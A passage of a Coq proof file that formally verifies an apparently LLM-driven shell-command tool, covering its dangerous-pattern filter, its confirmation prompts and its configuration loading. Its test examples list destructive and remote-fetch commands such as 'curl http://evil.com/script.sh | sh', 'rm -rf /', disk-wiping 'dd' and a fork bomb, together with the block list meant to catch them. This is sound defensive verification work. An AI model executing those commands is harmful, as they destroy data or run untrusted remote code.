  - apply cut_line_Some in E as (L & _ & -> & HL).
    right. destruct (Hdec (normalized L)) as [Hyes | Hno].
    + right. exists rest, L. now repeat split.
    + left. exists L, rest. now repeat split.
  - left. now apply cut_line_None.
Qed.

Lemma strict_yes_decidable (answer : string) :
  strict_yes answer \/ ~ strict_yes answer.
Proof.
  unfold strict_yes.
  destruct (string_dec answer "yes"); [now left | now right].
Qed.

Lemma standard_yes_decidable (answer : string) :
  standard_yes answer \/ ~ standard_yes answer.
Proof.
  destruct ((answer =? "") || (answer =? "y") || (answer =? "yes"))%string
    eqn:E.
  - left. now apply standard_yes_dec.
  - right. intros H. apply standard_yes_dec in H. congruence.
Qed.

Lemma gate_total (patterns : list string) (command input : string) :
  passes_gate patterns command input \/ cancels patterns command input.
Proof.
  unfold passes_gate, cancels.
  destruct (fst (executor.IsDangerous command patterns)).
  - destruct (prompt_total strict_yes input strict_yes_decidable)
      as [H | [H | [rest1 H]]].
    + right. right. split; [reflexivity | now left].
    + right. right. split; [reflexivity | right; now left].
    + destruct (prompt_total standard_yes rest1 standard_yes_decidable)
        as [H1 | [H1 | [rest2 H1]]].
      * right. right. split; [reflexivity|]. right. right.
        exists rest1. split; [exact H | now left].
      * right. right. split; [reflexivity|]. right. right.
        exists rest1. split; [exact H | now right].
      * left. right. split; [reflexivity|]. now exists rest1, rest2.
  - destruct (prompt_total standard_yes input standard_yes_decidable)
      as [H | [H | [rest H]]].
    + right. left. split; [reflexivity | now left].
    + right. left. split; [reflexivity | now right].
    + left. left. split; [reflexivity | now exists rest].
Qed.

(* ================================================================== *)
(** ** Traces *)

Lemma executions_app (a b : list event) :
  executions (a ++ b) = (executions a ++ executions b)%list.
Proof.
  induction a as [|e a IH]; [reflexivity|].
  destruct e; simpl; now rewrite IH.
Qed.

Lemma executions_output (t : list event) :
  Forall is_output t -> executions t = [].
Proof.
  induction 1 as [|e t He _ IH]; [reflexivity|].
  destruct e; simpl in *; tauto.
Qed.

Lemma In_executions (e : event) (t : list event) :
  In e t -> executions [e] = [e] -> In e (executions t).
Proof.
  intros Hin He. induction t as [|x t IH]; [contradiction|].
  destruct Hin as [-> | Hin].
  - change (e :: t) with ([e] ++ t)%list.
    rewrite executions_app, He. now left.
  - change (x :: t) with ([x] ++ t)%list.
    rewrite executions_app. apply in_or_app. right. now apply IH.
Qed.

(* ================================================================== *)
(** ** The run of [main] *)

Lemma main_at_gate (env : Env) (cfg : config.Config)
  (sysCtx : context.SystemContext) (command : string) (w : World) :
  reaches_gate env cfg sysCtx command ->
  main env w = gate env cfg sysCtx command w.
Proof.
  intros (Hargs & Hcfg & Hctx & llmClient & Hclient & Hcommand).
  unfold main.
  destruct (length (os_Args env) <? 2)%nat eqn:E.
  - apply Nat.ltb_lt in E. lia.
  - now rewrite Hcfg, Hctx, Hclient, Hcommand.
Qed.

Lemma showUsage_run (w : World) :
  exists shown,
    Forall is_output shown /\ showUsage w = (Ret tt, logged w shown).
Proof.
  unfold showUsage, bind, fmt_Println, emit, logged. cbn [reader trace].
  eexists. split; cycle 1.
  - rewrite <- !app_assoc. cbn [app]. reflexivity.
  - repeat constructor.
Qed.

(** A run that does not reach the gate ends with status 1 after it wrote a
    message, and does nothing else. *)
Lemma main_cases (env : Env) (w : World) :
  (exists cfg sysCtx command, reaches_gate env cfg sysCtx command) \/
  (exists shown,
     Forall is_output shown /\ main env w = (Exit 1, logged w shown)).
Proof.
  unfold main, reaches_gate.
  destruct (length (os_Args env) <? 2)%nat eqn:E.
  { right. destruct (showUsage_run w) as (shown & Hshown & Hrun).
    exists shown. split; [exact Hshown|].
    now rewrite (bind_Ret _ _ _ _ _ Hrun). }
  apply Nat.ltb_ge in E.
  destruct (config_Load env) as [cfg|err] eqn:Hcfg.
  2: { right. eexists [_]. split; cycle 1.
       - reflexivity.
       - repeat constructor. }
  destruct (Collect env (config.MaxContextLines cfg)) as [sysCtx|err] eqn:Hctx.
  2: { right. eexists [_]. split; cycle 1.
       - reflexivity.
       - repeat constructor. }
  destruct (select_client cfg) as [llmClient|] eqn:Hclient.
  2: { right. eexists [_]. split; cycle 1.
       - reflexivity.
       - repeat constructor. }
  destruct (GenerateCommand env llmClient
              (strings.Join (tl (os_Args env)) " ") sysCtx)
    as [command|err] eqn:Hcommand.
  2: { right. eexists [_]. split; cycle 1.
       - reflexivity.
       - repeat constructor. }
  left. exists cfg, sysCtx, command.
  repeat split; [exact E | exact Hctx |].
  now exists llmClient.
Qed.

Lemma run_main (env : Env) (w w' : World) (r : result unit) :
  main env w = (r, w') -> run env w = (status r, w').
Proof. unfold run. intros ->. now destruct r. Qed.

Lemma scenario_reaches_gate (patterns : list string) (command output : string) :
  reaches_gate (scenario patterns command output)
    (scenario_config patterns) scenario_context command.
Proof.
  repeat split; [simpl; lia|].
  now exists (llm.NewOllamaClient "http://localhost:11434" "qwen2.5-coder:7b").
Qed.

(* ================================================================== *)
(** ** The execution boundary *)



(* ================================================================== *)
(** ** Runs of the program *)







(** C6. End-to-end scenarios 3 and 4 on the program, for the command
    "rm -rf /home/user" and the pattern "rm -rf": after "yes" at the strict
    prompt, "n" at the standard prompt cancels the run with status 0; a bare
    Enter at the standard prompt hands the command to [Execute], which
    refuses it: no subprocess is started, the refusal goes to standard
    error and the status is 1. *)
Theorem confirmed_dangerous_command_is_refused :
  run (scenario ["rm -rf"] "rm -rf /home/user" "")
    (initial ("yes" ++ nl ++ "n" ++ nl) io_EOF)
  = (0,
     {| reader := {| pending := ""; failure := io_EOF |};
        trace :=
          Stdout ("Command: rm -rf /home/user" ++ nl)
          :: danger_banner "Command contains dangerous pattern: rm -rf"
          ++ [Read ("yes" ++ nl) None;
              Stdout "Execute? [Y/n]: ";
              Read ("n" ++ nl) None;
              Stdout ("Command execution cancelled." ++ nl)] |})
  /\
  run (scenario ["rm -rf"] "rm -rf /home/user" "")
    (initial ("yes" ++ nl ++ nl) io_EOF)
  = (1,
     {| reader := {| pending := ""; failure := io_EOF |};
        trace :=
          Stdout ("Command: rm -rf /home/user" ++ nl)
          :: danger_banner "Command contains dangerous pattern: rm -rf"
          ++ [Read ("yes" ++ nl) None;
              Stdout "Execute? [Y/n]: ";
              Read nl None;
              Call_Execute "rm -rf /home/user";
              Stderr ("Error: refused to execute dangerous command: "
                      ++ "Command contains dangerous pattern: rm -rf"
                      ++ nl)] |}).
Proof. split; vm_compute; reflexivity. Qed.



(* ================================================================== *)
(** ** The tests of the repository and the scenarios of the specification *)

Example TestIsDangerous_ReasonFormat :
  executor.IsDangerous "rm -rf /" ["rm -rf /"]
  = (true, "Command contains dangerous pattern: rm -rf /").
Proof. reflexivity. Qed.

Example TestIsDangerous_CaseInsensitive :
  map (fun cmd => fst (executor.IsDangerous cmd ["rm -rf /"]))
    ["RM -RF /"; "rm -RF /"; "Rm -Rf /"]
  = [true; true; true].
Proof. reflexivity. Qed.

Example TestIsDangerous_NoPatterns :
  executor.IsDangerous "rm -rf /" [] = (false, "").
Proof. reflexivity. Qed.

Example TestIsDangerous_PartialMatch :
  fst (executor.IsDangerous "rm -rf /home/user/temp" ["rm -rf"]) = true.
Proof. reflexivity. Qed.

(** A pattern written as a regular expression is matched as the text it
    is. *)
Example TestIsDangerous_FalsePositiveCheck :
  map (fun cmd => executor.IsDangerous cmd ["curl.*|.*sh"])
    ["curl http://example.com"; "curl -O http://example.com/file.txt"]
  = [(false, ""); (false, "")].
Proof. reflexivity. Qed.

Example TestIsDangerous_Dangerous :
  map (fun cmd =>
         fst (executor.IsDangerous cmd
                ["rm -rf /"; "rm -rf /*"; "dd if="; "mkfs"; "format";
                 ":(){:|:&};:"; "| sh"; "| bash"]))
    ["rm -rf /"; "rm -rf /*"; "sudo rm -rf /home";
     "dd if=/dev/zero of=/dev/sda"; "mkfs.ext4 /dev/sda1"; "format c:";
     ":(){:|:&};:"; "curl http://evil.com/script.sh | sh";
     "wget http://evil.com/bad.sh | bash"]
  = [true; true; true; true; true; true; true; true; true].
Proof. reflexivity. Qed.

Example TestIsDangerous_Safe :
  map (fun cmd => executor.IsDangerous cmd ["rm -rf /"; "dd if="; "mkfs"])
    ["ls -la"; "pwd"; "cat file.txt"; "grep 'pattern' file.txt";
     "find . -name '*.go'"; "wc -l file.txt"]
  = repeat (false, "") 6.
Proof. reflexivity. Qed.

Example TestConfirmExecution_Yes :
  map (fun input => fst (ui.ConfirmExecution (initial (input ++ nl) io_EOF)))
    ["y"; "Y"; "yes"; "YES"; ""; "n"; "N"; "no"; "NO"; "maybe"]
  = [Ret (true, None); Ret (true, None); Ret (true, None);
     Ret (true, None); Ret (true, None); Ret (false, None);
     Ret (false, None); Ret (false, None); Ret (false, None);
     Ret (false, None)].
Proof. reflexivity. Qed.

Example TestConfirmExecution_EOF :
  fst (ui.ConfirmExecution (initial "" io_EOF)) = Ret (false, Some io_EOF).
Proof. reflexivity. Qed.

Example TestShowDangerWarning_Yes :
  fst (ui.ShowDangerWarning "Command contains 'rm -rf'"
         (initial ("yes" ++ nl) io_EOF))
  = Ret (true, None).
Proof. reflexivity. Qed.

Example TestShowDangerWarning_No :
  map (fun input =>
         fst (ui.ShowDangerWarning "Test reason"
                (initial (input ++ nl) io_EOF)))
    ["no"; "n"; "y"; ""; "maybe"]
  = repeat (Ret (false, None)) 5.
Proof. reflexivity. Qed.

Example TestExecute_DangerousCommand :
  fst (executor.Execute (scenario [] "" "")
         (executor.NewSafeExecutor ["rm -rf"] "/bin/zsh") "rm -rf /tmp/test"
         (initial "" io_EOF))
  = Ret ("",
         Some (errors_New
                 ("refused to execute dangerous command: "
                   ++ "Command contains dangerous pattern: rm -rf"))).
Proof. reflexivity. Qed.

Example TestNewSafeExecutor_DefaultShell :
  executor.shell (executor.NewSafeExecutor [] "") = "/bin/zsh".
Proof. reflexivity. Qed.

(** Scenario 1: "ls -la" is safe under the default patterns, and a bare
    Enter at the standard prompt runs it. *)
Example scenario_1 :
  executor.IsDangerous "ls -la"
    (config.DangerousPatterns config.getDefaultConfig) = (false, "")
  /\
  run (scenario (config.DangerousPatterns config.getDefaultConfig)
         "ls -la" ("total 0" ++ nl))
    (initial nl io_EOF)
  = (0,
     {| reader := {| pending := ""; failure := io_EOF |};
        trace :=
          [Stdout ("Command: ls -la" ++ nl);
           Stdout "Execute? [Y/n]: ";
           Read nl None;
           Call_Execute "ls -la";
           Start "/bin/zsh" ["-c"; "ls -la"];
           Stdout ("total 0" ++ nl)] |}).
Proof. split; vm_compute; reflexivity. Qed.

(** Scenario 2: "rm -rf /home/user" is dangerous, and "y" at the strict
    prompt cancels the run before the standard prompt; nothing is
    executed. *)
Example scenario_2 :
  run (scenario ["rm -rf"] "rm -rf /home/user" "")
    (initial ("y" ++ nl ++ "y" ++ nl) io_EOF)
  = (0,
     {| reader := {| pending := "y" ++ nl; failure := io_EOF |};
        trace :=
          Stdout ("Command: rm -rf /home/user" ++ nl)
          :: danger_banner "Command contains dangerous pattern: rm -rf"
          ++ [Read ("y" ++ nl) None;
              Stdout ("Command execution cancelled." ++ nl)] |}).
Proof. vm_compute; reflexivity. Qed.

(* ================================================================== *)
(** * Further properties of the code *)

(** ** More on the classifier *)

Lemma ToLower_app (a b : string) :
  strings.ToLower (a ++ b)
  = (strings.ToLower a ++ strings.ToLower b)%string.
Proof. induction a as [|c a IH]; simpl; [reflexivity | now rewrite IH]. Qed.

Lemma is_substring_embedded (sub s before after : string) :
  is_substring sub s -> is_substring sub (before ++ s ++ after).
Proof.
  intros (u & v & ->). exists (before ++ u)%string, (v ++ after)%string.
  now rewrite !append_assoc.
Qed.

Lemma IsDangerous_true_iff (C : string) (P : list string) :
  fst (executor.IsDangerous C P) = true <->
  exists p, In p P /\ is_substring (strings.ToLower p) (strings.ToLower C).
Proof.
  destruct (IsDangerous_cases C P)
    as [(before & p & after & -> & _ & Hp & ->) | [Hnone ->]]; simpl.
  - split; [intros _ | reflexivity].
    exists p. split; [|exact Hp]. apply in_or_app. right. now left.
  - split; [discriminate|].
    intros (p & Hin & Hp). now apply Hnone in Hp.
Qed.



(** X2. Patterns added at the end of the list change nothing for a command
    the list already flags, reason included; a command the list finds safe
    gets the verdict of the added patterns. *)
Theorem IsDangerous_more_patterns (C : string) (P Q : list string) :
  executor.IsDangerous C (P ++ Q) =
  if fst (executor.IsDangerous C P) then executor.IsDangerous C P
  else executor.IsDangerous C Q.
Proof.
  induction P as [|p P IH]; [reflexivity|].
  cbn [app]. rewrite !IsDangerous_cons.
  destruct (strings.Contains (strings.ToLower C) (strings.ToLower p));
    [reflexivity | exact IH].
Qed.

(** X3. An empty pattern flags every command. *)
Theorem IsDangerous_empty_pattern (C : string) (P : list string) :
  In "" P -> fst (executor.IsDangerous C P) = true.
Proof.
  intros Hin. apply IsDangerous_true_iff. exists "".
  split; [exact Hin|]. now exists "", (strings.ToLower C).
Qed.

Lemma IsDangerous_empty_pattern_witness :
  fst (executor.IsDangerous "ls -la" ["rm -rf /"; ""]) = true.
Proof.
  apply (IsDangerous_empty_pattern "ls -la" ["rm -rf /"; ""]).
  right. now left.
Defined.


(* ================================================================== *)
(** ** The answers the prompts accept *)

Lemma TrimLeft_split (s : string) :
  exists a, s = (a ++ strings.TrimLeft s)%string /\ all_space a = true.
Proof.
  induction s as [|c s (a & Hs & Ha)]; simpl.
  - now exists "".
  - destruct (strings.asciiSpace c) eqn:E.
    + exists (String c a). simpl. rewrite E, Ha. now rewrite <- Hs.
    + now exists "".
Qed.

Lemma TrimRight_split (s : string) :
  exists b, s = (strings.TrimRight s ++ b)%string /\ all_space b = true.
Proof.
  induction s as [|c s (b & Hs & Hb)]; simpl.
  - now exists "".
  - destruct (strings.TrimRight s) as [|d t] eqn:E.
    + simpl in Hs. subst b.
      destruct (strings.asciiSpace c) eqn:F.
      * exists (String c s). simpl. now rewrite F, Hb.
      * exists s. now split.
    + exists b. split; [|exact Hb]. simpl in Hs |- *. now f_equal.
Qed.

Lemma TrimSpace_split (s : string) :
  exists a b,
    s = (a ++ strings.TrimSpace s ++ b)%string /\
    all_space a = true /\ all_space b = true.
Proof.
  destruct (TrimLeft_split s) as (a & Hs & Ha).
  destruct (TrimRight_split (strings.TrimLeft s)) as (b & Ht & Hb).
  exists a, b. unfold strings.TrimSpace. now rewrite <- Ht, <- Hs.
Qed.

Lemma TrimLeft_all_space (s : string) :
  all_space s = true -> strings.TrimLeft s = "".
Proof.
  induction s as [|c s IH]; simpl; [reflexivity|].
  intros H. apply andb_true_iff in H as [Hc Hs]. now rewrite Hc, IH.
Qed.

Lemma TrimLeft_app (s b : string) :
  strings.TrimLeft (s ++ b) =
  if all_space s then strings.TrimLeft b
  else (strings.TrimLeft s ++ b)%string.
Proof.
  induction s as [|c s IH]; simpl; [reflexivity|].
  destruct (strings.asciiSpace c); [exact IH | reflexivity].
Qed.

Lemma TrimRight_app_spaces (s b : string) :
  all_space b = true -> strings.TrimRight (s ++ b) = strings.TrimRight s.
Proof.
  revert s; induction b as [|c b IH]; intros s Hb.
  - clear Hb. f_equal. induction s; simpl; congruence.
  - simpl in Hb. apply andb_true_iff in Hb as [Hc Hb].
    replace (s ++ String c b)%string with ((s ++ String c "") ++ b)%string
      by now rewrite append_assoc.
    rewrite (IH _ Hb). now apply TrimRight_app_space.
Qed.

(** Whitespace around a string does not change what [TrimSpace] keeps. *)
Lemma TrimSpace_padded (a s b : string) :
  all_space a = true -> all_space b = true ->
  strings.TrimSpace (a ++ s ++ b) = strings.TrimSpace s.
Proof.
  intros Ha Hb. unfold strings.TrimSpace.
  rewrite (TrimLeft_app a), Ha, (TrimLeft_app s).
  destruct (all_space s) eqn:Hs.
  - rewrite (TrimLeft_all_space b Hb), (TrimLeft_all_space s Hs). reflexivity.
  - now apply TrimRight_app_spaces.
Qed.

Lemma normalized_empty (L : string) :
  normalized L = "" <-> all_space L = true.
Proof.
  unfold normalized. rewrite ToLower_empty. split.
  - intros H. destruct (TrimSpace_split L) as (a & b & HL & Ha & Hb).
    rewrite H in HL. simpl in HL. subst L.
    clear H. induction a as [|c a IH]; simpl; [exact Hb|].
    simpl in Ha. apply andb_true_iff in Ha as [Hc Ha].
    now rewrite Hc, IH.
  - intros H. unfold strings.TrimSpace.
    now rewrite (TrimLeft_all_space L H).
Qed.

(** The lines whose normal form is a given word: the word in any case of
    its letters, with whitespace around it. *)
Lemma normalized_word (L word : string) :
  strings.TrimSpace word = word ->
  (normalized L = word <->
   exists a core b,
     L = (a ++ core ++ b)%string /\
     all_space a = true /\ all_space b = true /\
     strings.ToLower core = word).
Proof.
  intros Hword. split.
  - intros H. destruct (TrimSpace_split L) as (a & b & HL & Ha & Hb).
    now exists a, (strings.TrimSpace L), b.
  - intros (a & core & b & -> & Ha & Hb & Hcore).
    unfold normalized. rewrite (TrimSpace_padded a core b Ha Hb).
    fold (normalized core).
    now rewrite <- TrimSpace_ToLower, Hcore.
Qed.





(* ================================================================== *)
(** ** Runs that execute, and runs that stop before the command *)

Lemma Execute_runs (env : Env) (e : executor.SafeExecutor)
  (command reason output : string) (err : option error) (w : World) :
  executor.IsDangerous command (executor.dangerousPatterns e)
  = (false, reason) ->
  cmd_Run env (executor.shell e) ["-c"; command] = (output, err) ->
  executor.Execute env e command w =
    (Ret (output,
          match err with
          | Some err => Some (Wrap "command execution failed: " err)
          | None => None
          end),
     logged w [Call_Execute command;
               Start (executor.shell e) ["-c"; command]]).
Proof.
  intros Hd Hrun.
  unfold executor.Execute, executor.Run, bind, emit, ret, logged.
  rewrite Hd. cbn [reader trace]. rewrite Hrun, <- app_assoc.
  now destruct err.
Qed.

Lemma safe_run_trace (env : Env) (cfg : config.Config)
  (sysCtx : context.SystemContext) (command input rest output : string)
  (err : option error) (failure : error) :
  reaches_gate env cfg sysCtx command ->
  fst (executor.IsDangerous command (config.DangerousPatterns cfg)) = false ->
  accepted standard_yes input rest ->
  cmd_Run env
    (if (context.Shell sysCtx =? "")%string then "/bin/zsh"
     else context.Shell sysCtx)
    ["-c"; command] = (output, err) ->
  exists w' before,
    run env (initial input failure)
    = (match err with Some _ => 1 | None => 0 end, w') /\
    reader w' = {| pending := rest; failure := failure |} /\
    executions before = [] /\
    trace w' =
      (before
       ++ [Call_Execute command;
           Start (if (context.Shell sysCtx =? "")%string then "/bin/zsh"
                  else context.Shell sysCtx)
             ["-c"; command]]
       ++ match err with
          | None => [Stdout output]
          | Some err =>
              Stderr ("Error: command execution failed: " ++ Error err ++ nl)
              :: (if (output =? "")%string then []
                  else [Stdout (output ++ nl)])
          end)%list.
Proof.
  intros Hgate Hd (L & Hin & HL & Hyes) Hrun.
  set (w := initial input failure).
  apply IsDangerous_verdict in Hd as [reason Hd].
  assert (Hmain : main env w = gate env cfg sysCtx command w)
    by now apply main_at_gate.
  unfold gate in Hmain.
  rewrite (bind_Ret _ _ _ _ _ (ShowCommand_run command w)) in Hmain.
  set (w0 := logged w [Stdout ("Command: " ++ command ++ nl)]) in Hmain.
  rewrite (bind_Ret _ _ _ _ _ (safety_check_safe cfg command w0 reason Hd))
    in Hmain.
  unfold confirm_and_execute in Hmain.
  rewrite (bind_Ret _ _ _ _ _ (ConfirmExecution_line w0 L rest HL Hin))
    in Hmain.
  rewrite (proj2 (standard_yes_dec _) Hyes) in Hmain.
  cbn [notnil negb orb] in Hmain.
  set (w1 := after_line w0 standard_prompt L rest) in Hmain.
  rewrite (bind_Ret _ _ _ _ _
             (Execute_runs env
                (executor.NewSafeExecutor (config.DangerousPatterns cfg)
                   (context.Shell sysCtx))
                command reason output err w1 Hd Hrun))
    in Hmain.
  exists (snd (main env w)),
    [Stdout ("Command: " ++ command ++ nl); Stdout "Execute? [Y/n]: ";
     Read (L ++ nl) None].
  destruct err as [e|].
  - unfold ui.ShowError, fmt_Fprint_Stderr, fmt_Println, bind, emit, os_Exit,
      ret in Hmain.
    destruct (output =? "")%string; cbn [negb] in Hmain;
      rewrite (run_main _ _ _ _ Hmain), Hmain; now repeat split.
  - unfold ui.ShowSuccess, fmt_Print, emit in Hmain.
    rewrite (run_main _ _ _ _ Hmain), Hmain. now repeat split.
Qed.





(* ================================================================== *)
(** ** Loading the configuration *)

Lemma Validate_None (c : config.Config) :
  config.Validate c = None <->
  config.Provider c = "ollama" \/
  (config.Provider c = "anthropic" /\ config.APIKey c <> "").
Proof.
  unfold config.Validate.
  destruct (String.eqb_spec (config.Provider c) "anthropic") as [Ha|Ha];
    destruct (String.eqb_spec (config.Provider c) "ollama") as [Ho|Ho];
    destruct (String.eqb_spec (config.APIKey c) "") as [Hk|Hk];
    cbn [negb andb]; intuition congruence.
Qed.

(** The configuration [Load] validates: the defaults or the parsed file,
    with the three environment variables applied. *)
Lemma Load_inversion (h : config.Host) (cfg : config.Config) :
  config.Load h = inl cfg ->
  exists base,
    (base = config.getDefaultConfig \/
     exists configPath data,
       config.getConfigPath h = inl configPath /\
       config.os_ReadFile h configPath = inl data /\
       config.yaml_Unmarshal h data config.getDefaultConfig = inl base) /\
    config.Validate cfg = None /\
    config.APIKey cfg =
      (if (config.os_Getenv h "ANTHROPIC_API_KEY" =? "")%string
       then config.APIKey base
       else config.os_Getenv h "ANTHROPIC_API_KEY") /\
    config.Provider cfg =
      (if (config.os_Getenv h "ZCHAT_PROVIDER" =? "")%string
       then config.Provider base
       else config.os_Getenv h "ZCHAT_PROVIDER") /\
    config.OllamaURL cfg =
      (if (config.os_Getenv h "OLLAMA_URL" =? "")%string
       then config.OllamaURL base
       else config.os_Getenv h "OLLAMA_URL") /\
    config.Model cfg = config.Model base /\
    config.MaxContextLines cfg = config.MaxContextLines base /\
    config.DangerousPatterns cfg = config.DangerousPatterns base.
Proof.
  unfold config.Load.
  set (loaded := match config.getConfigPath h with
                 | inl _ => _
                 | inr _ => _
                 end).
  assert (Hloaded :
    forall base, loaded = inl base ->
      base = config.getDefaultConfig \/
      exists configPath data,
        config.getConfigPath h = inl configPath /\
        config.os_ReadFile h configPath = inl data /\
        config.yaml_Unmarshal h data config.getDefaultConfig = inl base).
  { intros base. subst loaded.
    destruct (config.getConfigPath h) as [configPath|];
      [|intros H; injection H as <-; now left].
    destruct (config.os_ReadFile h configPath) as [data|] eqn:Hread;
      [|intros H; injection H as <-; now left].
    destruct (config.yaml_Unmarshal h data config.getDefaultConfig)
      as [parsed|] eqn:Hyaml; [|discriminate].
    intros H; injection H as <-. right. now exists configPath, data. }
  destruct loaded as [base|]; [|discriminate].
  specialize (Hloaded base eq_refl).
  match goal with
  | |- match config.Validate ?c with _ => _ end = _ -> _ =>
      destruct (config.Validate c) eqn:Hvalid; [discriminate|];
      intros H; injection H as <-
  end.
  exists base. split; [exact Hloaded|]. split; [exact Hvalid|].
  destruct (config.os_Getenv h "ANTHROPIC_API_KEY" =? "")%string;
    destruct (config.os_Getenv h "ZCHAT_PROVIDER" =? "")%string;
    destruct (config.os_Getenv h "OLLAMA_URL" =? "")%string;
    now repeat split.
Qed.

(** X9. A configuration that [Load] returns is valid: its provider is
    "ollama", or "anthropic" with an API key that is not empty; so the
    switch of [main] on the provider always finds a client for it. *)
Theorem Load_is_valid (h : config.Host) (cfg : config.Config) :
  config.Load h = inl cfg ->
  (config.Provider cfg = "ollama" \/
   (config.Provider cfg = "anthropic" /\ config.APIKey cfg <> "")) /\
  exists llmClient, select_client cfg = Some llmClient.
Proof.
  intros H. apply Load_inversion in H as (_ & _ & Hvalid & _).
  apply Validate_None in Hvalid. split; [exact Hvalid|].
  unfold select_client.
  destruct Hvalid as [-> | [-> _]]; cbn; now eexists.
Qed.


(** X11. Without a readable configuration file (no home directory, or the
    file cannot be read) and with the three environment variables unset or
    empty, [Load] succeeds with the default configuration. *)
Theorem Load_defaults (h : config.Host) :
  (forall configPath data,
     config.getConfigPath h = inl configPath ->
     config.os_ReadFile h configPath <> inl data) ->
  config.os_Getenv h "ANTHROPIC_API_KEY" = "" ->
  config.os_Getenv h "ZCHAT_PROVIDER" = "" ->
  config.os_Getenv h "OLLAMA_URL" = "" ->
  config.Load h = inl config.getDefaultConfig.
Proof.
  intros Hfile Hkey Hprovider Hurl. unfold config.Load.
  rewrite Hkey, Hprovider, Hurl.
  destruct (config.getConfigPath h) as [configPath|]; [|reflexivity].
  destruct (config.os_ReadFile h configPath) as [data|] eqn:Hread;
    [|reflexivity].
  now apply Hfile in Hread.
Qed.

(** X12. A configuration file that can be read but not parsed makes [Load]
    fail with "failed to parse config file: " and the parser's error,
    whatever the environment variables are. *)
Theorem Load_unparsable_file (h : config.Host) (configPath data : string)
  (err : error) :
  config.getConfigPath h = inl configPath ->
  config.os_ReadFile h configPath = inl data ->
  config.yaml_Unmarshal h data config.getDefaultConfig = inr err ->
  config.Load h = inr (Wrap "failed to parse config file: " err) /\
  Error (Wrap "failed to parse config file: " err)
  = ("failed to parse config file: " ++ Error err)%string.
Proof.
  intros Hpath Hread Hyaml. unfold config.Load.
  now rewrite Hpath, Hread, Hyaml.
Qed.

Lemma Load_is_valid_witness :
  (config.Provider
     (config.set_Provider
        (config.set_APIKey config.getDefaultConfig "sk-test") "anthropic")
   = "ollama" \/
   (config.Provider
      (config.set_Provider
         (config.set_APIKey config.getDefaultConfig "sk-test") "anthropic")
    = "anthropic" /\
    config.APIKey
      (config.set_Provider
         (config.set_APIKey config.getDefaultConfig "sk-test") "anthropic")
    <> "")) /\
  exists llmClient,
    select_client
      (config.set_Provider
         (config.set_APIKey config.getDefaultConfig "sk-test") "anthropic")
    = Some llmClient.
Proof.
  apply (Load_is_valid
           (config_host None (fun _ cfg => inl cfg)
              (fun key =>
                 if (key =? "ANTHROPIC_API_KEY")%string then "sk-test"
                 else if (key =? "ZCHAT_PROVIDER")%string then "anthropic"
                 else ""))).
  reflexivity.
Defined.


Lemma Load_defaults_witness :
  config.Load (config_host None (fun _ cfg => inl cfg) (fun _ => ""))
  = inl config.getDefaultConfig.
Proof.
  apply (Load_defaults
           (config_host None (fun _ cfg => inl cfg) (fun _ => "")));
    try reflexivity.
  intros configPath data _. simpl. discriminate.
Defined.

Lemma Load_unparsable_file_witness :
  config.Load
    (config_host (Some "provider: [")
       (fun _ _ => inr (errors_New "yaml: line 1: did not find expected node"))
       (setenv "ZCHAT_PROVIDER" "ollama"))
  = inr (Wrap "failed to parse config file: "
           (errors_New "yaml: line 1: did not find expected node")) /\
  Error (Wrap "failed to parse config file: "
           (errors_New "yaml: line 1: did not find expected node"))
  = ("failed to parse config file: "
     ++ Error (errors_New "yaml: line 1: did not find expected node"))%string.
Proof.
  apply (Load_unparsable_file
           (config_host (Some "provider: [")
              (fun _ _ =>
                 inr (errors_New "yaml: line 1: did not find expected node"))
              (setenv "ZCHAT_PROVIDER" "ollama"))
           "/home/user/.config/zchat/config.yaml" "provider: [");
    reflexivity.
Defined.

(* ================================================================== *)
(** ** Splitting into lines *)

Lemma Split_nl_cons (c : ascii) (s : string) :
  strings.Split (String c s) nl =
  if (c =? LF)%char then "" :: strings.Split s nl
  else match strings.Split s nl with
       | piece :: pieces => String c piece :: pieces
       | [] => [String c ""]
       end.
Proof.
  unfold strings.Split, nl. simpl.
  assert (Hs : strings.HasPrefix s "" = true) by now destruct s.
  rewrite Hs.
  destruct (c =? LF)%char; simpl;
    now destruct (strings.genSplit s (String LF "") 0).
Qed.

Lemma Split_nl_nonempty (s : string) : strings.Split s nl <> [].
Proof.
  destruct s as [|c s]; [discriminate|].
  rewrite Split_nl_cons. destruct (c =? LF)%char; [discriminate|].
  destruct (strings.Split s nl); discriminate.
Qed.

Lemma Split_nl_no_LF (s : string) :
  Forall (fun line => no_LF line = true) (strings.Split s nl).
Proof.
  induction s as [|c s IH]; [repeat constructor|].
  rewrite Split_nl_cons. destruct (c =? LF)%char eqn:E.
  - now constructor.
  - destruct (strings.Split s nl) as [|piece pieces].
    + repeat constructor. simpl. now rewrite E.
    + inversion IH as [|? ? Hp Hps]. subst.
      constructor; [|exact Hps]. simpl. now rewrite E, Hp.
Qed.

(** Joining the lines of a text gives the text back. *)
Lemma Join_Split_nl (s : string) : strings.Join (strings.Split s nl) nl = s.
Proof.
  induction s as [|c s IH]; [reflexivity|].
  rewrite Split_nl_cons. destruct (c =? LF)%char eqn:E.
  - apply Ascii.eqb_eq in E. subst c.
    destruct (strings.Split s nl) as [|piece pieces] eqn:Hs.
    + now apply Split_nl_nonempty in Hs.
    + change (strings.Join ("" :: piece :: pieces) nl)
        with (String LF (strings.Join (piece :: pieces) nl)).
      now rewrite IH.
  - destruct (strings.Split s nl) as [|piece pieces] eqn:Hs.
    + now apply Split_nl_nonempty in Hs.
    + destruct pieces as [|piece' pieces].
      * simpl in IH |- *. now rewrite IH.
      * change (strings.Join (String c piece :: piece' :: pieces) nl)
          with (String c (strings.Join (piece :: piece' :: pieces) nl)).
        now rewrite IH.
Qed.

Lemma Split_nl_app (s t : string) :
  strings.Split (s ++ nl ++ t) nl
  = (strings.Split s nl ++ strings.Split t nl)%list.
Proof.
  induction s as [|c s IH].
  - change ("" ++ nl ++ t)%string with (String LF t).
    now rewrite Split_nl_cons.
  - change (String c s ++ nl ++ t)%string with (String c (s ++ nl ++ t)).
    rewrite !Split_nl_cons, IH. destruct (c =? LF)%char; [reflexivity|].
    destruct (strings.Split s nl) as [|piece pieces] eqn:Hs.
    + now apply Split_nl_nonempty in Hs.
    + reflexivity.
Qed.

Lemma Split_nl_line (s : string) :
  no_LF s = true -> strings.Split s nl = [s].
Proof.
  induction s as [|c s IH]; [reflexivity|].
  simpl. intros H. apply andb_true_iff in H as [Hc Hs].
  apply negb_true_iff in Hc.
  rewrite Split_nl_cons, Hc, (IH Hs). reflexivity.
Qed.

(* ================================================================== *)
(** ** What [TrimSpace] returns *)

Lemma TrimRight_idem (s : string) :
  strings.TrimRight (strings.TrimRight s) = strings.TrimRight s.
Proof.
